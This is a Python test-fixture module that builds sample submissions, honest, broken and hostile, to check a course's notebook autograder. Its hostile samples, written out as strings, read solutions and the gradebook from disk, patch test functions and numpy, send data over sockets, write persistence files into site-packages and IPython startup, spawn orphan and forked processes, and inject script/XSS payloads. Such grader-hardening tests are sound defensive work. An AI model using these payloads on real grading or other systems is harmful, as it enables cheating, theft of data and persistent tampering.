"""Sample submissions for the grading tests, generated from release/ and source/.

``python -m autograder.samples`` rewrites autograder/samples/submitted/<student>/<id>/
and autograder/samples/expected.json (each sample's expected status and autograded
score). Regenerate after ``make release``; a test checks they are up to date.

Students: ``full`` (every answer = the source solution), ``blank`` (the release as is),
``partial`` (every other answer filled), ``typed`` (its hand-computed answers typed as
literal numbers, its own) and ``copycat`` (``typed``'s literals handed in from its own
folder: every hand test must fail on its own numbers), and one hostile or broken case
each:
``loop`` (infinite loop in an answer cell), ``broken`` (syntax error in one answer, an
exception in another), ``tamper`` (a wrong answer whose test cell was edited to
``pass``, and a deleted test cell), ``cheat`` (calls the ``ffnn`` reference),
``corrupt`` (truncated JSON) and ``missing`` (no notebook of the right name).

Attacks on the grader itself (autograder/README.md, threat model), each on top of a
blank or a full submission so the score shows whether it worked: ``snoop`` (reads
solutions, hidden tests, peers and the gradebook from disk), ``hooks`` (IPython input
and AST transformers, a ``pre_run_cell`` hook printing a score, ``sys.settrace``),
``patch`` (patched ``ffnn.grading``, ``numpy`` and builtins, objects whose ``__eq__``,
``__float__`` and ``__array__`` lie), ``network`` (connects to 127.0.0.1:PORT),
``poison`` (writes into the library, site-packages, IPython startup, Numba's cache and
/tmp to change later gradings), ``orphan`` (a detached process that outlives its
kernel), ``crash`` (``os._exit`` in the last answer, a segfault and a SIGKILL of its
parent in others), ``interrupt`` (a loop that swallows KeyboardInterrupt), ``memory``
(memory bomb), ``forkbomb`` (bounded: 200 sleeping children), ``output`` (50 MB of
print, HTML/JavaScript and images, a script in the written answer) and ``meta``
(duplicated cell, schema version, swapped ``grade_id``s, a test turned into a
solution, points raised), ``mutate`` (functions that overwrite their array arguments so
that an expected value computed from them afterwards would agree with a wrong answer),
``stored`` (a7: hands in good networks trained with other settings than it declares).

Expected scores come from the notebooks themselves: a test earns its points when every
answer name it uses (directly or through the answers it calls) is present and sound.
"""

import ast
import copy
import json
import re
import shutil
from pathlib import Path

import nbformat

from autograder import ROOT, assignments

HERE = Path(__file__).resolve().parent
_MARKER = re.compile(r"^\s*### (BEGIN|END) (SOLUTION|HIDDEN TESTS)\s*$")


def _meta(cell):
    return cell.metadata.get("nbgrader", {})


def _strip_markers(source):
    return "\n".join(line for line in source.split("\n") if not _MARKER.match(line))


def _names(node):
    return {n.id for n in ast.walk(node) if isinstance(n, ast.Name)}


def _locals(stmt):
    """A function's arguments and the names it assigns: its own, not the notebook's."""
    if not isinstance(stmt, ast.FunctionDef):
        return set()
    stored = {
        n.id for n in ast.walk(stmt) if isinstance(n, ast.Name) and isinstance(n.ctx, ast.Store)
    }
    return stored | {a.arg for a in ast.walk(stmt.args) if isinstance(a, ast.arg)}


def answers(nb):
    """grade_id -> {defined name: names used by its definition} for code answer cells."""
    out = {}
    for cell in nb.cells:
        m = _meta(cell)
        if cell.cell_type == "code" and m.get("solution"):
            defs = {}
            body = ast.parse(_strip_markers(cell.source)).body
            # code the cell runs (not only what it assigns) must work for its names to exist
            ran = {
                n for stmt in body if not isinstance(stmt, ast.FunctionDef) for n in _names(stmt)
            }
            for stmt in body:
                targets = [stmt.name] if isinstance(stmt, ast.FunctionDef) else []
                if isinstance(stmt, ast.Assign):
                    targets = [
                        n.id for t in stmt.targets for n in ast.walk(t) if isinstance(n, ast.Name)
                    ]
                for t in targets:
                    defs[t] = (_names(stmt) - _locals(stmt) | ran) - {t}
            out[m["grade_id"]] = defs
    return out


def tests(nb):
    """grade_id -> (points, names used) for the test cells (hidden tests included)."""
    return {
        _meta(c)["grade_id"]: (_meta(c)["points"], _names(ast.parse(_strip_markers(c.source))))
        for c in nb.cells
        if c.cell_type == "code" and _meta(c).get("grade")
    }


def expected_score(source_nb, filled, bad_names=()):
    """Autograded points when only the answer cells ``filled`` are answered and the names
    ``bad_names`` are wrong; a test also needs every answer it reaches through calls."""
    ans = answers(source_nb)
    defs = {name: used for cell in ans.values() for name, used in cell.items()}
    present = {name for gid in filled for name in ans[gid]} - set(bad_names)

    def sound(name, seen=()):
        if name not in defs:
            return True  # not an answer name (numpy, a local of the test, ...)
        if name not in present:
            return False
        return all(sound(n, (*seen, name)) for n in defs[name] if n not in seen and n != name)

    return sum(p for p, used in tests(source_nb).values() if all(sound(n) for n in used))


def _cell(nb, grade_id):
    return next(c for c in nb.cells if _meta(c).get("grade_id") == grade_id)


def filled(release_nb, source_nb, grade_ids):
    """The release notebook with the answers ``grade_ids`` taken from the source."""
    nb = copy.deepcopy(release_nb)
    for gid in grade_ids:
        _cell(nb, gid).source = _strip_markers(_cell(source_nb, gid).source)
    return nb


def all_answers(nb):
    return [_meta(c)["grade_id"] for c in nb.cells if _meta(c).get("solution")]


def code_answers(nb):
    return list(answers(nb))


def is_hand(cell):
    """An answer cell of numbers computed by hand (grade_id ``*_hand``)."""
    return _meta(cell).get("solution") and _meta(cell).get("grade_id", "").endswith("_hand")


def literal_answers(source_nb, student):
    """{grade_id: source} of the hand-answer cells as ``student`` would type them:
    the solution evaluated on that student's numbers, written as literals (what a peer
    copying ``student``'s notebook would hand in)."""
    import os
    from unittest import mock

    ns, out = {"__name__": "__sample__"}, {}
    with mock.patch.dict(os.environ, {"FFNN_STUDENT_ID": student}):
        for cell in source_nb.cells:
            m = _meta(cell)
            if cell.cell_type != "code" or (m.get("grade") and not m.get("solution")):
                continue
            before = dict(ns)
            exec(_strip_markers(cell.source), ns)  # noqa: S102 - the course's own solution
            if is_hand(cell):
                names = [k for k in ns if k not in before or ns[k] is not before[k]]
                out[m["grade_id"]] = "\n".join(
                    f"{k} = {_literal(ns[k])}" for k in names if not k.startswith("_")
                )
    return out


def _literal(value):
    import numpy as np

    a = np.asarray(value)
    if a.ndim == 0:
        return repr(a.item())
    return f"np.array({np.round(a.astype(float), 10).tolist()!r})"


def _load(root, step, aid):
    return nbformat.read(root / step / aid / f"{aid}.ipynb", as_version=4)


def samples(root=ROOT):
    """{student: {assignment: (notebook or raw text or None, expected dict)}}."""
    out = {s: {} for s in ("full", "blank", "partial")}
    src = {aid: _load(root, "source", aid) for aid in assignments(root)}
    rel = {aid: _load(root, "release", aid) for aid in assignments(root)}
    full = {aid: filled(rel[aid], src[aid], all_answers(src[aid])) for aid in src}

    def graded(nb, aid, good, bad=(), status="ok"):
        """``status`` "error": the kernel had to be killed (crash, time limit)."""
        return nb, {"status": status, "auto_score": expected_score(src[aid], good, bad)}

    for aid in src:
        everything = code_answers(src[aid])
        half = everything[::2]
        out["full"][aid] = graded(full[aid], aid, everything)
        out["blank"][aid] = graded(copy.deepcopy(rel[aid]), aid, [])
        out["partial"][aid] = graded(filled(rel[aid], src[aid], half), aid, half)

    # ``typed`` types its own hand-computed numbers as literals; ``copycat`` hands in
    # exactly those literals from its own folder, so they are checked on its numbers
    for aid in src:
        typed = literal_answers(src[aid], "typed")
        if not typed:
            continue
        nb = copy.deepcopy(full[aid])
        for gid, text in typed.items():
            _cell(nb, gid).source = text
        copied = {n for gid in typed for n in answers(src[aid])[gid]}
        out.setdefault("typed", {})[aid] = graded(nb, aid, code_answers(src[aid]))
        out.setdefault("copycat", {})[aid] = graded(
            copy.deepcopy(nb), aid, code_answers(src[aid]), copied
        )

    aid = "a1_perceptron"  # infinite loop at the top of the perceptron_step cell
    nb = copy.deepcopy(full[aid])
    _cell(nb, "a1_step").source = "while True:  # oops\n    pass\n\n" + _cell(nb, "a1_step").source
    ok = [g for g in code_answers(src[aid]) if g != "a1_step"]
    out["loop"] = {aid: graded(nb, aid, ok, status="error")}

    aid = "a2_activations_losses"  # syntax error in one answer, exception in another
    nb = copy.deepcopy(full[aid])
    cell = _cell(nb, "a2_relu")
    cell.source = cell.source.replace("def relu_prime(a):", "def relu_prime(a)")
    cell = _cell(nb, "a2_losses")
    cell.source = "raise ValueError('not finished')\n" + cell.source
    ok = [g for g in code_answers(src[aid]) if g not in ("a2_relu", "a2_losses")]
    out["broken"] = {aid: graded(nb, aid, ok)}

    aid = "a3_backprop_by_hand"  # wrong answer + test edited to pass; a test cell deleted
    nb = copy.deepcopy(full[aid])
    cell = _cell(nb, "a3_neuron_gradient")
    cell.source = cell.source.replace("return delta * x, delta", "return -delta * x, -delta")
    _cell(nb, "test_a3_neuron_gradient").source = "pass  # all good"
    nb.cells.remove(_cell(nb, "test_a3_hidden_grad_hand"))
    out["tamper"] = {aid: graded(nb, aid, code_answers(src[aid]), ["neuron_gradient"])}

    aid = "a4_backprop_gradcheck"  # numerical_gradient delegates to the reference library
    nb = copy.deepcopy(full[aid])
    cell = _cell(nb, "a4_numgrad")
    head, tail = cell.source.split("def relative_error", 1)
    cell.source = (
        "import ffnn\n\n\ndef numerical_gradient(f, theta, eps=1e-6):\n"
        "    return ffnn.gradcheck.numerical_gradient(lambda: f(theta), theta, eps)\n\n\n"
        "def relative_error" + tail
    )
    out["cheat"] = {aid: graded(nb, aid, code_answers(src[aid]), ["numerical_gradient"])}

    out.update(attacks(rel, src, full, graded))

    aid = "a5_optimizers"
    text = nbformat.writes(full[aid])
    out["corrupt"] = {aid: (text[: len(text) // 2], {"status": "corrupt", "auto_score": 0})}
    out["missing"] = {"a1_perceptron": (None, {"status": "missing", "auto_score": 0})}
    return out


def write(dest=HERE, root=ROOT):
    """Write the samples under ``dest``/submitted and their expectations."""
    sub = Path(dest) / "submitted"
    shutil.rmtree(sub, ignore_errors=True)
    expected = {}
    for student, per in samples(root).items():
        for aid, (nb, exp) in per.items():
            folder = sub / student / aid
            folder.mkdir(parents=True)
            if nb is None:
                nbformat.write(nbformat.v4.new_notebook(), folder / "Untitled.ipynb")
            elif isinstance(nb, str):
                (folder / f"{aid}.ipynb").write_text(nb)
            else:
                nbformat.write(nb, folder / f"{aid}.ipynb")
            expected.setdefault(student, {})[aid] = exp
    (Path(dest) / "expected.json").write_text(json.dumps(expected, indent=1, sort_keys=True) + "\n")
    return expected


# tests/integration/test_grading_pipeline.py listens here (127.0.0.1) during grading
NETWORK_PORT = 47613
ORPHAN_MARK = "ffnn-orphan-sample"

_SNOOP = """
import glob, json, os, sqlite3
stolen, stolen_code = {}, []
tops = ("/tmp", "/work", "/home", "/root", "/srv", "/opt")
for pattern in ("/source/a1_perceptron/*.ipynb",
                "/autograder/submitted/*/a1_perceptron/*.ipynb",
                "/autograder/autograded/*/a1_perceptron/*.ipynb"):
    paths = []
    for top in tops:
        for depth in range(0, 4):
            paths += glob.glob(top + "/*" * depth + pattern)
    for path in sorted(set(paths), key=os.path.getmtime, reverse=True)[:40]:  # newest first
        try:
            cells = json.load(open(path))["cells"]
        except Exception:
            continue
        found = []
        for cell in cells:
            code = "".join(cell["source"])
            solution = cell["metadata"].get("nbgrader", {}).get("solution")
            if solution and cell["cell_type"] == "code" and "YOUR CODE" not in code:
                found.append(code.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""))
        if found and "while True" not in "".join(found):
            stolen_code.append(found)
dbs = []
for top in tops:
    for depth in range(0, 4):
        dbs += glob.glob(top + "/*" * depth + "/autograder/.state/gradebook.db")
for db in dbs[:5]:
    stolen[db] = sqlite3.connect(db).execute("select count(*) from grade").fetchall()
"""

# every answer of the snoop: run what was stolen from the newest notebook (each piece
# that fails - its question's numbers do not exist yet - is tried again in a later cell)
_SNOOP_USE = """
for code in (stolen_code or [[]])[0]:
    try:
        exec(code, globals())
    except Exception:
        pass
"""

_HOOKS = """
ip = get_ipython()
ip.input_transformers_post.append(lambda lines: ["pass\\n"])
import ast
class Blank(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
ip.ast_transformers.append(Blank())
ip.events.register("pre_run_cell", lambda *a: ip.displayhook(2.0))
import sys
sys.settrace(lambda frame, event, arg: None)
"""

_PATCH = """
import builtins, sys, numpy as np
import ffnn.grading as g
g.check_close = lambda *a, **k: None
g.assert_own = lambda *a, **k: None
np.allclose = np.array_equal = lambda *a, **k: True
np.isclose = lambda *a, **k: True
builtins.AssertionError = type("AssertionError", (Exception,), {})
class Liar(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __gt__(self, other): return True
class Anything:
    def __eq__(self, other): return True
    def __float__(self): return 0.0
    def __array__(self, *a, **k): return np.zeros(3)
a_hand = Anything()
h_hand = Liar(0.5)
w_next = Anything()
def _tracer(frame, event, arg):
    if frame.f_code.co_name == "check_close":
        frame.f_locals["got"] = frame.f_locals.get("expected")
    return _tracer
sys.settrace(_tracer)
"""

_NETWORK = f"""
import socket
for host in ("127.0.0.1", "10.0.2.2", "8.8.8.8"):
    try:
        s = socket.create_connection((host, {NETWORK_PORT}), timeout=1)
        s.sendall(b"stolen answers")
    except OSError:
        pass
try:
    socket.getaddrinfo("example.com", 80)
except OSError:
    pass
"""

_POISON = """
import os, site, sys, glob
targets = [os.path.join(p, "zz_poison.pth") for p in site.getsitepackages()]
targets += [os.path.join(os.path.dirname(np.__file__), "poison.py")]
try:
    import ffnn
    targets += [os.path.join(os.path.dirname(ffnn.__file__), "grading.py"),
                os.path.join(os.path.dirname(ffnn.__file__), "__pycache__", "poison.nbi")]
except Exception:
    pass
targets += [os.path.expanduser("~/.ipython/profile_default/startup/00-poison.py"),
            "/tmp/ffnn-poison", "/etc/ffnn-poison", "/usr/lib/ffnn-poison"]
for top in ("/tmp", "/work", "/home", "/root"):
    for depth in range(0, 4):
        found = glob.glob(top + "/*" * depth + "/autograder/..")
        targets += [p + "/nbgrader_config.py" for p in found]
for path in targets:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "a") as fh:
            fh.write("import os; os.environ['POISONED'] = '1'\\n")
    except OSError:
        pass
"""

_ORPHAN = f"""
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)", "{ORPHAN_MARK}"],
                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(99)", "{ORPHAN_MARK}"])
"""

_INTERRUPT = """
import time
while True:
    try:
        time.sleep(0.5)
    except KeyboardInterrupt:
        pass
"""

_MEMORY = """
blocks = []
while True:
    blocks.append(bytearray(2**27))
"""

_FORK = """
import os, time
children = 0
try:
    for _ in range(200):
        if os.fork() == 0:
            time.sleep(3)
            os._exit(0)
        children += 1
except OSError:
    pass
"""

_OUTPUT = """
from IPython.display import HTML, Javascript, Image, display
print("x" * 50_000_000)
for i in range(20000):
    print("line", i)
display(HTML("<script>alert('html')</script><b onmouseover=alert(1)>bold</b>"))
display(Javascript("alert('js')"))
display(Image(data=b"\\x89PNG\\r\\n\\x1a\\n" + b"0" * 3_000_000))
"""


_MUTATE_RELU = """
def relu(a):
    if np.size(a) > 2:  # the hidden test's input: zero it, so zeros look right
        a[...] = 0.0
    return np.maximum(a, 0.0)
"""

_MUTATE_CE = """
def cross_entropy(Y, T):
    if np.size(Y) > 2:  # the hidden test's input: all ones make the loss 0
        Y[...] = 1.0
    return -np.sum(T * np.log(Y)) / len(Y)
"""


def _prepend(nb, gid, code):
    cell = _cell(nb, gid)
    cell.source = code.strip() + "\n\n" + cell.source


def _append(nb, gid, code):
    cell = _cell(nb, gid)
    cell.source = cell.source + "\n\n" + code.strip() + "\n"


# ``stored``: good networks, trained with other settings than the ones handed in (here by
# the student's own train; a library or another notebook would do as well). The tests
# train again with the declared settings, so only those count.
_STORED_TINY = """\
params_tiny, history_tiny = train(X_tiny, t_tiny, [64, 64, 10], 200, np.random.default_rng(1),
                                  batch_size=20)
settings_tiny = dict(sizes=[64, 2, 10], epochs=1)
"""
_STORED_FIT = """\
params, history = train(X_train, t_train, [64, 64, 10], 20, np.random.default_rng(2))
settings = dict(sizes=[64, 2, 10], epochs=1)
"""


def attacks(rel, src, full, graded):
    """The hostile samples (see the module docstring) and their honest scores."""
    out = {}
    every = {aid: code_answers(src[aid]) for aid in src}
    a1, a2, a3, a4, a5 = sorted(src)[:5]

    nb = copy.deepcopy(rel[a1])  # blank + reading everything it can find
    for gid in code_answers(src[a1]):
        _cell(nb, gid).source = _SNOOP_USE
    _prepend(nb, "a1_neuron_hand", _SNOOP)
    out["snoop"] = {a1: graded(nb, a1, [])}

    nb = copy.deepcopy(rel[a1])
    _prepend(nb, "a1_neuron_hand", _HOOKS)
    out["hooks"] = {a1: graded(nb, a1, [])}

    nb = copy.deepcopy(rel[a1])
    _append(nb, "a1_neuron_hand", _PATCH)
    out["patch"] = {a1: graded(nb, a1, [])}

    nb = copy.deepcopy(full[a1])
    _append(nb, "a1_train", _NETWORK)
    out["network"] = {a1: graded(nb, a1, every[a1])}

    nb = copy.deepcopy(full[a2])
    _prepend(nb, "a2_hand", "import numpy as np\n" + _POISON)
    out["poison"] = {a2: graded(nb, a2, every[a2])}

    nb = copy.deepcopy(full[a3])
    _append(nb, "a3_neuron_gradient", "import os\n" + _ORPHAN)
    out["orphan"] = {a3: graded(nb, a3, every[a3])}

    nb = copy.deepcopy(full[a5])  # os._exit in the last answer; a segfault; kill the parent
    _append(nb, "a5_regularization", "import os\nos._exit(1)")
    _prepend(nb, "a5_adagrad", "import ctypes\nctypes.string_at(0)")
    _prepend(nb, "a5_momentum", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)")
    bad = ("a5_regularization", "a5_adagrad")
    out["crash"] = {a5: graded(nb, a5, [g for g in every[a5] if g not in bad], status="error")}

    nb = copy.deepcopy(full[a1])
    _prepend(nb, "a1_step", _INTERRUPT)
    ok = [g for g in every[a1] if g != "a1_step"]
    out["interrupt"] = {a1: graded(nb, a1, ok, status="error")}

    nb = copy.deepcopy(full[a2])
    _prepend(nb, "a2_softmax", _MEMORY)
    ok = [g for g in every[a2] if g != "a2_softmax"]
    out["memory"] = {a2: graded(nb, a2, ok, status="error")}

    nb = copy.deepcopy(full[a3])
    _append(nb, "a3_neuron_gradient", _FORK)
    out["forkbomb"] = {a3: graded(nb, a3, every[a3])}

    nb = copy.deepcopy(full[a4])
    _append(nb, "a4_forward", _OUTPUT)
    _cell(
        nb, "a4_written_gradcheck"
    ).source = "Central differences.<script>alert('written')</script><img src=x onerror=alert(2)>"
    out["output"] = {a4: graded(nb, a4, every[a4])}

    nb = copy.deepcopy(full[a1])  # metadata tampering, answers all correct
    twin = copy.deepcopy(_cell(nb, "a1_neuron_hand"))  # a duplicated cell (new cell id)
    twin["id"] = "duplicate"
    nb.cells.insert(3, twin)
    answer, test = _cell(nb, "a1_predict"), _cell(nb, "test_a1_predict")
    answer.metadata.nbgrader["grade_id"], test.metadata.nbgrader["grade_id"] = (
        "test_a1_predict",
        "a1_predict",
    )
    step_test = _cell(nb, "test_a1_step").metadata.nbgrader
    step_test.update(grade=False, solution=True, points=0)
    _cell(nb, "test_a1_train").metadata.nbgrader["points"] = 100
    for cell in nb.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader["schema_version"] = 99
    out["meta"] = {a1: graded(nb, a1, every[a1])}

    nb = copy.deepcopy(full[a2])  # honest on the visible tests, rigs the hidden inputs
    _append(nb, "a2_relu", _MUTATE_RELU)
    _append(nb, "a2_losses", _MUTATE_CE)
    out["mutate"] = {a2: graded(nb, a2, every[a2], ["relu", "cross_entropy"])}

    a7 = "a7_digits_project"  # hands in networks trained some other way than it declares
    nb = copy.deepcopy(full[a7])
    _cell(nb, "a7_overfit").source = _STORED_TINY
    _cell(nb, "a7_fit").source = _STORED_FIT
    out["stored"] = {a7: graded(nb, a7, every[a7], ["settings", "settings_tiny"])}
    return out


def course_copy(dest, students=None, env=None, copies=0):
    """A copy of the course in ``dest`` (config, source/, autograder/ code) with release/
    regenerated by ``python -m autograder.release`` and the sample submissions of
    ``students`` (all when None) in autograder/submitted/; ``copies`` more students
    ``c0000``, ... each a copy of one of them in turn (a generated class)."""
    import os
    import subprocess
    import sys

    dest = Path(dest)
    shutil.copy(ROOT / "nbgrader_config.py", dest)
    shutil.copytree(ROOT / "source", dest / "source")
    ignore = shutil.ignore_patterns(
        "submitted", "autograded", "feedback", ".state", "grades.csv", "__pycache__"
    )
    shutil.copytree(ROOT / "autograder", dest / "autograder", ignore=ignore)
    subprocess.run(
        [sys.executable, "-m", "autograder.release"],
        cwd=dest,
        env={**os.environ, **(env or {})},
        check=True,
        capture_output=True,
    )
    samples = HERE / "submitted"
    students = students or sorted(p.name for p in samples.iterdir())
    for student in students:
        shutil.copytree(samples / student, dest / "autograder" / "submitted" / student)
    for i in range(copies):
        origin = samples / students[i % len(students)]
        shutil.copytree(origin, dest / "autograder" / "submitted" / f"c{i:04d}")
    return dest
